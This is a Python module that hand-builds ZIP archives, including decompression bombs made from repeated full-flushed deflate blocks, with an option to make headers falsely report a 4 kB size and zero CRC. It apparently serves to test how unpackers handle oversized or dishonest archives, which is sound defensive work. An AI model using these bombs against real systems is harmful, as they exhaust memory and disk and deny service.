"""ZIP archives written by hand, so that they can unpack to more than was ever written.

A deflate stream that ends in a full flush may be followed by itself: so a gigabyte of one letter is
a megabyte repeated, and no byte of it is ever in memory. A member may also lie about its size.
"""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass

_MB = 1 << 20
_MOST = 0xFFFF_FFFE  # sizes in a header of 32 bits


@dataclass(frozen=True, slots=True)
class Member:
    """A member: its deflated bytes, and what the headers say of it."""

    name: str
    packed: bytes
    size: int
    crc: int


def plain(name: str, content: str | bytes) -> Member:
    """An honest member."""
    data = content.encode() if isinstance(content, str) else content
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Member(name, squeeze.compress(data) + squeeze.flush(), len(data), zlib.crc32(data))


def bomb(name: str, head: str, letter: str, tail: str, megabytes: int, lying: bool) -> Member:
    """`head`, then so many megabytes of `letter`, then `tail`; `lying` says it is 4 kB."""
    block = letter.encode() * _MB
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = squeeze.compress(head.encode()) + squeeze.flush(zlib.Z_FULL_FLUSH)
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    again = squeeze.compress(block) + squeeze.flush(zlib.Z_FULL_FLUSH)
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    last = squeeze.compress(tail.encode()) + squeeze.flush()
    size = len(head) + megabytes * _MB + len(tail)
    if lying or size > _MOST:
        return Member(name, first + again * megabytes + last, 4096, 0)
    crc = zlib.crc32(head.encode())
    for _ in range(megabytes):
        crc = zlib.crc32(block, crc)
    return Member(name, first + again * megabytes + last, size, zlib.crc32(tail.encode(), crc))


def archive(*members: Member) -> bytes:
    """A ZIP of these members."""
    body, directory = bytearray(), bytearray()
    for item in members:
        name = item.name.encode()
        common = struct.pack(
            "<HHHHHIIIHH", 20, 0x800, 8, 0, 0x21, item.crc, len(item.packed), item.size,
            len(name), 0,
        )  # fmt: skip
        at = len(body)
        body += b"PK\x03\x04" + common + name + item.packed
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + common
        directory += struct.pack("<HHHII", 0, 0, 0, 0, at) + name
    count = len(members)
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(body), 0)
    return bytes(body + directory + b"PK\x05\x06" + end)
